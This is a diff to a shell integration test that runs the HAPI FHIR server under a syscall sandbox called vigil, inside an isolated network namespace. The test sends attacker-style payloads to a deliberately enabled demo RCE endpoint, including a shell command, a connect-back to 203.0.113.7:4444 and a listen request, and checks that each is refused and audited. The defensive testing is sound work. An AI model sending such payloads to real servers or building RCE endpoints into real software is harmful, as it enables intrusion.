@@ -25,7 +25,7 @@ fail() { echo "FAIL: $*" >&2; failures=$((failures + 1)); }
 die() { echo "FAIL: $*" >&2; exit 1; }
 step() { echo "== $* ($(date -u +%H:%M:%S), load $(cut -d' ' -f1 /proc/loadavg))"; }
 
-for cmd in python3 curl mvn unshare; do
+for cmd in python3 curl mvn unshare nsenter ip; do
     command -v "$cmd" >/dev/null || die "$cmd is not installed (see .ci/install-deps)"
 done
 [ -x "$VIGIL" ] || die "no vigil binary at $VIGIL"
@@ -33,11 +33,13 @@ done
 work=$(mktemp -d /tmp/hapi_fhir_test.XXXXXX)
 chmod 755 "$work"
 vigil_pid=
+netns_pid=
 cleanup() {
     if [ -n "$vigil_pid" ] && kill -0 "$vigil_pid" 2>/dev/null; then
         kill -KILL "$vigil_pid" 2>/dev/null
         wait "$vigil_pid" 2>/dev/null
     fi
+    [ -n "$netns_pid" ] && kill -KILL "$netns_pid" 2>/dev/null
     rm -rf "$work"
 }
 trap cleanup EXIT
@@ -46,18 +48,24 @@ step "build (cached in $BUILD/hapi-fhir)"
 "$app/build.sh" "$BUILD/hapi-fhir" || die "examples/hapi-fhir/build.sh failed (see above)"
 "$VIGIL" check "$SRC/profiles/hapi-fhir.toml" >/dev/null || die "profiles/hapi-fhir.toml does not check"
 
-port=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
+# The network namespace: only loopback, held by a sleeping process; inns runs a command in it.
+unshare --net sleep 3600 &
+netns_pid=$!
+sleep 0.2
+inns() { nsenter --net="/proc/$netns_pid/ns/net" -- "$@"; }
+inns ip link set lo up || die "cannot bring up loopback in the test's network namespace"
+port=8080
 base=http://127.0.0.1:$port/fhir
 audit=$work/audit.jsonl
 export HAPI_DATA_DIR=$work/data HAPI_DEMO_RCE=1
 
 step "start HAPI under vigil (port $port)"
-unshare --pid --fork --mount-proc --kill-child \
+inns unshare --pid --fork --mount-proc --kill-child \
     "$VIGIL" run -p "$SRC/profiles/hapi-fhir.toml" --audit "$audit" -- \
     "$app/run.sh" "$BUILD/hapi-fhir" "$port" >"$work/hapi.log" 2>&1 &
 vigil_pid=$!
 started=$SECONDS
-until curl -sf -o /dev/null -m 10 "$base/metadata"; do
+until inns curl -sf -o /dev/null -m 10 "$base/metadata"; do
     if ! kill -0 "$vigil_pid" 2>/dev/null; then
         tail -40 "$work/hapi.log" >&2
         die "vigil exited during HAPI's start-up (log above)"
@@ -94,7 +102,7 @@ done
 grep -qE 'Started [A-Za-z]+ in [0-9.]+ seconds' "$work/hapi.log" || fail "no Spring Boot start-up line in HAPI's log"
 
 step "verification workload"
-python3 "$app/verify.py" --base "$base" --clients 8 --seconds 20 >"$work/verify.log" 2>&1 \
+inns python3 "$app/verify.py" --base "$base" --clients 8 --seconds 20 >"$work/verify.log" 2>&1 \
     || { tail -30 "$work/verify.log" >&2; fail "the verification workload got wrong answers"; }
 tail -3 "$work/verify.log"
 n=$(count_events "$denials")
@@ -104,8 +112,9 @@ if [ "$n" -ne 0 ]; then
 fi
 
 step "the attacker's moves after start-up (demo RCE endpoint)"
-rce=$(curl -s -m 60 -X POST -H 'Content-Type: application/json' "http://127.0.0.1:$port/demo-rce" \
-    -d '{"command": "id > /tmp/pwned", "connect": "203.0.113.7:4444", "listen": 0}')
+rce=$(inns curl -s -m 60 -X POST -H 'Content-Type: application/json' "http://127.0.0.1:$port/demo-rce" \
+    -d "{\"command\": \"id > $work/pwned\", \"connect\": \"203.0.113.7:4444\", \"listen\": 0}")
+[ ! -e "$work/pwned" ] || fail "the demo's shell command ran ($work/pwned exists)"
 echo "demo-rce: $rce"
 python3 - "$rce" <<'EOF' || fail "the RCE demo's exec, connect or listen was not refused"
 import json, sys
@@ -114,19 +123,30 @@ assert not r["exec"]["ok"] and "Operation not permitted" in r["exec"]["error"], 
 assert not r["connect"]["ok"], r["connect"]
 assert not r["listen"]["ok"], r["listen"]
 EOF
-rce=$(curl -s -m 60 -X POST -H 'Content-Type: application/json' "http://127.0.0.1:$port/demo-rce" \
-    -d '{"connect": "127.0.0.1:22"}')
-python3 - "$rce" <<'EOF' || fail "a loopback connection to port 22 was not refused: $rce"
+# A loopback service the payload would like to reach (a database port, say): it is there
+# (a direct connect works), but HAPI's profile does not let the JVM connect to it.
+inns python3 -c 'import socket, time; s = socket.socket(); s.bind(("127.0.0.1", 5432)); s.listen(8); time.sleep(600)' &
+listener=$!
+sleep 1
+inns python3 -c 'import socket; socket.create_connection(("127.0.0.1", 5432), 5).close()' \
+    || fail "the test's own loopback listener on 5432 is not reachable"
+rce=$(inns curl -s -m 60 -X POST -H 'Content-Type: application/json' "http://127.0.0.1:$port/demo-rce" \
+    -d '{"connect": "127.0.0.1:5432"}')
+echo "demo-rce: $rce"
+python3 - "$rce" <<'EOF' || fail "a loopback connection to port 5432 was not refused: $rce"
 import json, sys
 assert not json.loads(sys.argv[1])["connect"]["ok"]
 EOF
+kill "$listener" 2>/dev/null
+[ "$(count_events 'e.get("outcome") == "denied" and e.get("syscall") == "connect" and ":5432" in json.dumps(e)')" -ge 1 ] \
+    || fail "no denied connect to 127.0.0.1:5432 in the audit trail"
 [ "$(count_events 'e.get("outcome") == "denied" and e.get("syscall") == "execve" and e.get("phase") == "ready"')" -ge 1 ] \
     || fail "no denied execve in the ready phase in the audit trail"
 [ "$(count_events 'e.get("outcome") == "denied" and e.get("syscall") == "connect" and "203.0.113.7" in json.dumps(e)')" -ge 1 ] \
     || fail "no denied connect to 203.0.113.7 in the audit trail"
 [ "$(count_events 'e.get("outcome") == "denied" and e.get("syscall") in ("bind", "listen")')" -ge 1 ] \
     || fail "no denied bind/listen in the audit trail"
-curl -sf -o /dev/null -m 30 "$base/Patient?_count=1" || fail "HAPI stopped answering after the refused attack"
+inns curl -sf -o /dev/null -m 30 "$base/Patient?_count=1" || fail "HAPI stopped answering after the refused attack"
 
 step "SIGTERM: graceful stop"
 kill -TERM "$vigil_pid"
